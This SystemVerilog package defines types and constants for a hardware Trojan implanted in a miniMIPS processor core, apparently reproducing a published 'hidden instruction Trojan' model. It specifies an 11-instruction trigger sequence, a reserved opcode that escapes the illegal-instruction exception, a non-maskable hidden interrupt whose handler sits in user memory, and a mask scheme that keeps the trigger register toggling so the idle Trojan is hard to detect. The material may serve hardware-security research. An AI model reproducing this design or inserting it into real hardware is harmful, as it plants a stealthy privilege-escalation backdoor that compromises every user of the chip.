// hit_pkg: types and constants shared by the processor front end that carries the
// hidden instruction Trojan (HIT).
//
// It holds the instruction identities produced by the decoder (MIPS-I integer subset,
// the instruction set of the miniMIPS core the Trojan is implanted in), the exception /
// interrupt causes of the coprocessor, the default boot sequence of the Trojan and the
// address map (system zone, user zone, vectors).
//
// What follows the source model: the boot sequence is 11 instructions long, all of them
// different; the Trojan's illegal instruction uses one reserved opcode; the hidden
// interrupt's handler address lies in the user zone; the cause names ITMAT, OVERF, ERINS,
// BREAK, SCALL and HIT. Everything else here is this design's own choice: the concrete
// boot instructions, the reserved opcode (0x1D), the mask width and mask values, the
// addresses, and the bit patterns used by the opcode-matching path of the Inst unit.
package hit_pkg;

  // Instruction identities. I_RSVD marks an encoding the decoder does not know
  // (reserved opcode or function code): it raises ERINS unless the Trojan fires.
  typedef enum logic [6:0] {
    I_RSVD = 7'd0,
    I_SLL, I_SRL, I_SRA, I_SLLV, I_SRLV, I_SRAV, I_JR, I_JALR, I_SYSCALL, I_BREAK,
    I_MFHI, I_MTHI, I_MFLO, I_MTLO, I_MULT, I_MULTU, I_DIV, I_DIVU,
    I_ADD, I_ADDU, I_SUB, I_SUBU, I_AND, I_OR, I_XOR, I_NOR, I_SLT, I_SLTU,
    I_BLTZ, I_BGEZ, I_BLTZAL, I_BGEZAL,
    I_J, I_JAL, I_BEQ, I_BNE, I_BLEZ, I_BGTZ,
    I_ADDI, I_ADDIU, I_SLTI, I_SLTIU, I_ANDI, I_ORI, I_XORI, I_LUI,
    I_MFC0, I_MTC0, I_ERET,
    I_LB, I_LH, I_LWL, I_LW, I_LBU, I_LHU, I_LWR,
    I_SB, I_SH, I_SWL, I_SW, I_SWR
  } inst_id_e;

  // Decoder output bundle.
  typedef struct packed {
    inst_id_e id;
    logic     reserved;   // unknown encoding
    logic     syscall;
    logic     brk;
    logic     eret;
    logic     branch;     // jump or branch: may redirect the fetch
  } dec_t;

  // Exception / interrupt causes (interrupt IDs of the coprocessor's table).
  typedef enum logic [2:0] {
    C_ITMAT = 3'd0,  // external hardware interrupt, maskable
    C_OVERF = 3'd1,  // arithmetic overflow
    C_ERINS = 3'd2,  // reserved (unknown) instruction
    C_BREAK = 3'd3,
    C_SCALL = 3'd4,
    C_HIT   = 3'd5   // hidden privileged interrupt of the Trojan, non-maskable
  } cause_e;

  localparam int NUM_CAUSES = 6;

  // Synchronous exception flags that travel with an instruction down the pipeline.
  typedef struct packed {
    logic overf;
    logic erins;
    logic brk;
    logic scall;
    logic hit;
  } exc_t;

  // Boot sequence: 11 different instructions (length from the source model; the
  // instructions themselves are this design's choice of rarely used ones).
  localparam int BOOT_LEN_DEF = 11;
  localparam inst_id_e [BOOT_LEN_DEF-1:0] BOOT_SEQ_DEF = {
    // element 10 ............................................... element 0
    I_SRLV, I_LHU, I_BGEZAL, I_XORI, I_MTLO, I_SWR, I_LWL, I_SLTIU, I_BLTZAL, I_MTHI, I_SRAV
  };
  // Per element: 1 = identify it from the decoder output (circuit reuse),
  // 0 = identify it from its own opcode/function comparator.
  localparam logic [BOOT_LEN_DEF-1:0] BOOT_REUSE_DEF = 11'b110_1101_1011;

  localparam logic [5:0] ILLEGAL_OPCODE_DEF = 6'h1D;   // reserved in MIPS-I
  localparam int         MASK_W_DEF         = 8;
  localparam int         MASK_MUL           = 157;     // odd: (k+1)*MASK_MUL is never 0 mod 2**W

  // Mask loaded when a valid instruction moves the boot FSM to state k; salt is taken
  // from that instruction's low bits. Only the last state (k == n) gives all ones. Any
  // other state gives ~((k+1)*MASK_MUL) XOR salt with bit (salt + k) mod w forced to 0,
  // which is never all ones and changes with nearly every instruction, so the mask
  // register toggles along with the instruction stream even while the FSM sits in init.
  function automatic logic [31:0] mask_of_state(int k, int n, int w, logic [31:0] salt);
    logic [31:0] m, keep;
    keep = (w >= 32) ? 32'hFFFF_FFFF : ((32'd1 << w) - 32'd1);
    if (k == n) return keep;
    m = ~(32'(k + 1) * 32'(MASK_MUL)) ^ salt;
    m[(int'(salt[7:0]) + k) % w] = 1'b0;
    return m & keep;
  endfunction

  // Address map. User zone: below 0x8000_0000; system zone: from 0x8000_0000 up.
  localparam logic [31:0] USER_ZONE_TOP_DEF = 32'h7FFF_FFFF;
  localparam logic [31:0] RESET_PC_DEF      = 32'hBFC0_0000;
  localparam logic [31:0] EXC_VECTOR_DEF    = 32'h8000_0080;
  localparam logic [31:0] ITMAT_VECTOR_DEF  = 32'h8000_0200;
  localparam logic [31:0] HIT_VECTOR_DEF    = 32'h0008_0000;  // in the user zone
  localparam logic [31:0] EPC_RESET_DEF     = 32'h0000_0000;  // first user task

  // Opcode-path pattern of an instruction: (word & care) == value identifies it.
  typedef struct packed {
    logic [31:0] value;
    logic [31:0] care;
  } pattern_t;

  function automatic pattern_t id_pattern(inst_id_e id);
    pattern_t p;
    logic [5:0] op, fn;
    logic [4:0] rx;
    op = 6'h00; fn = 6'h00; rx = 5'h00;
    p.care = 32'hFC00_0000;   // opcode only, by default
    unique case (id)
      I_SLL:  fn = 6'h00;  I_SRL:  fn = 6'h02;  I_SRA:   fn = 6'h03;  I_SLLV:  fn = 6'h04;
      I_SRLV: fn = 6'h06;  I_SRAV: fn = 6'h07;  I_JR:    fn = 6'h08;  I_JALR:  fn = 6'h09;
      I_SYSCALL: fn = 6'h0C; I_BREAK: fn = 6'h0D;
      I_MFHI: fn = 6'h10;  I_MTHI: fn = 6'h11;  I_MFLO:  fn = 6'h12;  I_MTLO:  fn = 6'h13;
      I_MULT: fn = 6'h18;  I_MULTU: fn = 6'h19; I_DIV:   fn = 6'h1A;  I_DIVU:  fn = 6'h1B;
      I_ADD:  fn = 6'h20;  I_ADDU: fn = 6'h21;  I_SUB:   fn = 6'h22;  I_SUBU:  fn = 6'h23;
      I_AND:  fn = 6'h24;  I_OR:   fn = 6'h25;  I_XOR:   fn = 6'h26;  I_NOR:   fn = 6'h27;
      I_SLT:  fn = 6'h2A;  I_SLTU: fn = 6'h2B;
      I_BLTZ:   begin op = 6'h01; rx = 5'h00; end
      I_BGEZ:   begin op = 6'h01; rx = 5'h01; end
      I_BLTZAL: begin op = 6'h01; rx = 5'h10; end
      I_BGEZAL: begin op = 6'h01; rx = 5'h11; end
      I_J:    op = 6'h02;  I_JAL:  op = 6'h03;  I_BEQ:   op = 6'h04;  I_BNE:   op = 6'h05;
      I_BLEZ: op = 6'h06;  I_BGTZ: op = 6'h07;  I_ADDI:  op = 6'h08;  I_ADDIU: op = 6'h09;
      I_SLTI: op = 6'h0A;  I_SLTIU: op = 6'h0B; I_ANDI:  op = 6'h0C;  I_ORI:   op = 6'h0D;
      I_XORI: op = 6'h0E;  I_LUI:  op = 6'h0F;
      I_MFC0: begin op = 6'h10; rx = 5'h00; end
      I_MTC0: begin op = 6'h10; rx = 5'h04; end
      I_ERET: begin op = 6'h10; rx = 5'h10; fn = 6'h18; end
      I_LB:   op = 6'h20;  I_LH:   op = 6'h21;  I_LWL:   op = 6'h22;  I_LW:    op = 6'h23;
      I_LBU:  op = 6'h24;  I_LHU:  op = 6'h25;  I_LWR:   op = 6'h26;
      I_SB:   op = 6'h28;  I_SH:   op = 6'h29;  I_SWL:   op = 6'h2A;  I_SW:    op = 6'h2B;
      I_SWR:  op = 6'h2E;
      default: op = ILLEGAL_OPCODE_DEF;   // I_RSVD: never used as a boot element
    endcase
    if (id inside {[I_SLL:I_SLTU]}) begin
      p.value = {6'h00, 20'h0, fn};
      p.care  = 32'hFC00_003F;
    end else if (id inside {[I_BLTZ:I_BGEZAL]}) begin
      p.value = {op, 5'h00, rx, 16'h0};
      p.care  = 32'hFC1F_0000;
    end else if (id == I_ERET) begin
      p.value = {op, rx, 15'h0, fn};
      p.care  = 32'hFFE0_003F;
    end else if (id inside {I_MFC0, I_MTC0}) begin
      p.value = {op, rx, 21'h0};
      p.care  = 32'hFFE0_0000;
    end else begin
      p.value = {op, 26'h0};
    end
    return p;
  endfunction

endpackage
